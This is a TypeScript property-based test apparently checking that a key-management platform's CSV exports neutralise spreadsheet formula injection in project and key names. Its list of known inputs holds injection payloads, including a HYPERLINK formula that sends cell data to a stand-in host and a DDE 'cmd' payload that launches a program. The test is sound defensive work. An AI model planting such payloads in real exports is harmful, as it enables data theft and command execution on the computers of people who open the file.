/**
 * Who may name a project or a key at the platform, or send a person a file of keys, chooses names that a spreadsheet runs as formulas in
 * the tables that Keyway saves. Spreadsheets of other countries begin a cell at a semicolon, a tab or a bar, inside quotes too.
 */
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { activityAsCsv } from '../../src/features/activity/core/activity-words.ts'
import { readCsv } from '../../src/features/transfer/core/exports/csv.ts'
import { costHistoryAsCsv } from '../../src/features/usage/core/cost-history.ts'
import { toCsv } from '../../src/features/usage/core/to-csv.ts'
import { report, tries } from './outcome.ts'

const isFormula = (cell: string) => /^["\s]{0,3}[=+\-@＝＋－＠]/.test(cell)

/** In any country: where a comma begins a cell as the table means it, elsewhere at every sign that may, whatever the quotes say. */
const runs = (table: string): boolean =>
  readCsv(table, 10_000).flat().some(isFormula) ||
  [';', '\t', '|'].some(sign => table.split(/\r\n|\r|\n/).some(line => line.split(sign).some(isFormula)))

const known = [
  '=HYPERLINK("https://evil.test/?"&A1,"Open")',
  "=cmd|' /C calc'!A0",
  '+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  'a;=1+1;',
  'a";=1+1;"',
  'a;"=1+1',
  'a|=1+1|',
  'a\t=1+1\t',
  'a\n=1+1',
  'a\r\n@x',
  'a; =1+1',
]
const parts = fc.constantFrom(...'=+-@;,|"\' a1＝＋－＠', '\t', '\r', '\n')
const names = [
  ...known,
  ...fc.sample(
    fc.array(parts, { maxLength: 12 }).map(all => all.join('')),
    { seed: 12, numRuns: tries(2_000, 100_000) },
  ),
]

test('no name begins a formula in a table that is saved, in no country’s spreadsheet', {
  tags: 'slow',
}, () => {
  const tables: ((name: string) => string)[] = [
    name => toCsv([['a', name, 1]]),
    name => toCsv([[name]]),
    name => activityAsCsv([{ at: 0, act: 'copied', key: 'k1' }], () => name),
    name =>
      costHistoryAsCsv({
        days: { '2026-11-01': { 'p/k': 1 } },
        names: { p: name, k: name },
      } as unknown as Parameters<typeof costHistoryAsCsv>[0]),
  ]
  const landed = names.filter(name => tables.some(table => runs(table(name))))
  expect(landed.slice(0, 3)).toEqual([])
  report({
    attack: 'a name that a spreadsheet runs as a formula',
    attacker: 'provider',
    asset: 'the computer that opens a saved table',
    tries: names.length * tables.length,
    landed: landed.length,
    // As RFC 4180 alone would have it.
    control: {
      tries: names.length,
      landed: names.filter(name => runs(`"a","${name.replaceAll('"', '""')}"\r\n`)).length,
    },
  })
  // What is no formula is read again as it was.
  for (const name of ['CI', 'team - prod', 'a "b", c', 'x=1', ' padded ', 'two\nlines'])
    expect(readCsv(toCsv([['n', name]]), 9)).toEqual([['n', name]])
})
